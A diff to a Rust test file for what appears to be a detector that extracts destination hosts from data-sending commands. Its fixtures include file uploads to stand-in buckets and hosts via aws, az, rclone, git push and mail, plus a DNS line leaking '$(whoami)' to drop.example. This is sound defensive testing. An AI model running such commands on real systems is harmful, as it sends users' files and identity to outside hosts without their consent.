@@ -29,6 +29,36 @@ fn every_host_of_a_call_is_a_target() {
 }
 
 #[test]
+fn a_channel_that_is_no_request_has_its_host() {
+    for (callee, path, code, host) in [
+        ("aws", "a.sh", "aws s3 cp notes.md s3://tax-drop/in/", "tax-drop.s3.amazonaws.com"),
+        ("aws", "a.sh", "aws s3 cp notes.md s3://your-bucket/in/", "unknown"),
+        ("az", "a.sh", "az storage blob upload --account-name taxdrop -f notes.md", "taxdrop.blob.core.windows.net"),
+        ("rclone", "a.sh", "rclone copy a :sftp,host=drop.example:in", "drop.example"),
+        ("rclone", "a.sh", "rclone copy a mine:in", "unknown"),
+        ("git", "a.sh", "git push git@code.example:in/w.git", "code.example"),
+        ("git", "a.sh", "git remote add far https://code.example/w.git; git push far --all", "code.example"),
+        ("git", "a.sh", "git remote add origin https://code.example/w.git; git push -u origin main", "unknown"),
+        ("git", "a.sh", "git remote set-url --push origin git@code.example:w.git; git push -q", "code.example"),
+        ("git", "a.sh", "git config remote.far.url https://code.example/w.git; git push far", "code.example"),
+        ("xdg-email", "a.sh", "xdg-email 'mailto:desk@drop.example?body=x'", "drop.example"),
+        ("git", "a.sh", "git clone https://code.example/w.git", "unknown"),
+        ("mail", "a.sh", "mail -s notes.md desk@drop.example < notes.md", "drop.example"),
+        ("dig", "a.sh", "dig +short \"$(whoami).ns.drop.example\"", "ns.drop.example"),
+        (
+            "boto3.client.put_object",
+            "a.py",
+            "import boto3\nboto3.client('s3').put_object(Bucket='tax-drop')",
+            "tax-drop.s3.amazonaws.com",
+        ),
+    ] {
+        let lines = format!("callee = [\"{callee}\"]\ntarget = \"host\"");
+        let hosts: Vec<String> = found(&lines, path, code).into_iter().map(|(_, host)| host).collect();
+        assert_eq!(hosts.last().map(String::as_str).unwrap_or_default(), host, "{code}");
+    }
+}
+
+#[test]
 fn a_pipe_is_followed_however_its_readers_stand() {
     let lines = "callee = [\"curl\"]\nwhere = [{ piped-into = [\"sh\"] }]";
     for (code, count) in [
